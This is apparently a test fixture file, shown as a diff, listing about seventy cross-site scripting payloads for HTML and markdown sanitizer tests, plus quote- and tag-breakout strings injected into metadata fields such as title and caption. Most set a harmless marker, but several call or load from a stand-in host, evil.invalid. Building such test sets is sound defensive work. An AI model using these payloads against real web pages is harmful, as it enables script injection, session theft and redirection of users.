@@ -1,0 +1,85 @@
+"""Seventy ways to smuggle a script into a page; each sets `window.hit` or asks a foreign host when it works."""
+
+from __future__ import annotations
+
+RUN = "window.hit=1"
+ASK = "fetch('https://evil.invalid/')"
+
+IN_BODY = (
+    f"<script>{RUN}</script>",
+    f"<ScRiPt>{RUN}</sCrIpT>",
+    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    '<script src="https://evil.invalid/x.js"></script>',
+    f"<script type=module>{RUN}</script>",
+    f"<img src=x onerror={RUN}>",
+    f"<img src=x onerror='{ASK}'>",
+    f'<img src="x" onerror="{RUN}" alt="图">',
+    f"<IMG SRC=x OnErRoR={RUN}>",
+    f"<img/src=x/onerror={RUN}>",
+    f'<img """><script>{RUN}</script>">',
+    f"<svg onload={RUN}></svg>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
+    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>点</text></a></svg>',
+    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
+    f'<math><mtext></mtext><mglyph><style><img title="</style><img src=x onerror={RUN}>"></style></mglyph></math>',
+    f"<math href='javascript:{RUN}'>点</math>",
+    f"<body onload={RUN}>",
+    f"<details open ontoggle={RUN}>开</details>",
+    f"<video src=x onerror={RUN}></video>",
+    f"<video><source onerror={RUN}></video>",
+    f"<audio src=x onerror={RUN} controls></audio>",
+    f"<input onfocus={RUN} autofocus>",
+    f"<textarea onfocus={RUN} autofocus></textarea>",
+    f"<select onfocus={RUN} autofocus></select>",
+    f"<marquee onstart={RUN}>动</marquee>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    f'<iframe src="javascript:parent.{RUN}"></iframe>',
+    '<iframe src="https://evil.invalid/"></iframe>',
+    f'<object data="javascript:{RUN}"></object>',
+    '<embed src="https://evil.invalid/x.swf">',
+    f'<form action="javascript:{RUN}"><button autofocus>送</button></form>',
+    f'<button formaction="javascript:{RUN}">送</button>',
+    f'<a href="javascript:{RUN}">点</a>',
+    f'<a href=" &#14; java\tscript:{RUN}">点</a>',
+    f'<a href="&#106;avascript:{RUN}">点</a>',
+    f'<a href="data:text/html,<script>parent.{RUN}</script>">点</a>',
+    f'<a href="vbscript:{RUN}">点</a>',
+    f'<a href="https://example.org/" onclick="{RUN}">点</a>',
+    '<base href="https://evil.invalid/">',
+    '<link rel=stylesheet href="https://evil.invalid/x.css">',
+    '<meta http-equiv=refresh content="0;url=https://evil.invalid/">',
+    "<style>@import url(https://evil.invalid/x.css);</style>",
+    '<p style="background:url(https://evil.invalid/x.png)">字</p>',
+    '<div style="position:fixed;inset:0;z-index:9">盖住</div>',
+    f"<template><script>{RUN}</script></template>",
+    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>",
+    f"<!--><img src=x onerror={RUN}>-->",
+    f"<![CDATA[<img src=x onerror={RUN}>]]>",
+    f"<xmp><img src=x onerror={RUN}></xmp>",
+    f"<p id=kepu-hole-content>kepu-hole-content<script>{RUN}</script></p>",
+    f'<form id=test></form><button form=test formaction="javascript:{RUN}">点</button>',
+    f"[点](javascript:{RUN})",
+    f"[点](<javascript:{RUN}>)",
+    f"[点](JaVaScRiPt&colon;{RUN})",
+    f"[点][恶]\n\n[恶]: javascript:{RUN}",
+    f"<javascript:{RUN}>",
+    f'![图" onerror="{RUN}](https://evil.invalid/x.png)',
+    '![图](https://evil.invalid/x.png "提示")',
+    f'字{{: onclick="{RUN}" }}',
+    f'## 小节 {{: #x onmouseover="{RUN}" }}',
+    f"```html\n<script>{RUN}</script>\n```",
+    f"`<img src=x onerror={RUN}>`",
+    f"$<img src=x onerror={RUN}>$",
+    f"[^1]\n\n[^1]: <img src=x onerror={RUN}>",
+    f"| 甲 |\n| - |\n| <img src=x onerror={RUN}> |",
+    f"*[字]: \" onmouseover=\"{RUN}\n\n字",
+    f'<p markdown="1">**字**<img src=x onerror={RUN}></p>',
+)  # fmt: skip
+
+BROKEN_OUT = f'"><script>{RUN}</script><img src=x onerror={RUN}>'
+QUOTED = f"' onmouseover='{RUN}' autofocus onfocus='{RUN}"
+ENTITY = f"&lt;script&gt;{RUN}&lt;/script&gt;&quot; onerror=&quot;{RUN}"
+CLOSING = f"</title></script></textarea></style><svg onload={RUN}>"
+FIELDS = ("title", "summary", "authors", "keywords", "sources", "corrections", "reviewer", "series", "alt", "caption")
+IN_FIELDS = tuple((field, text) for field in FIELDS for text in (BROKEN_OUT, QUOTED, ENTITY, CLOSING))
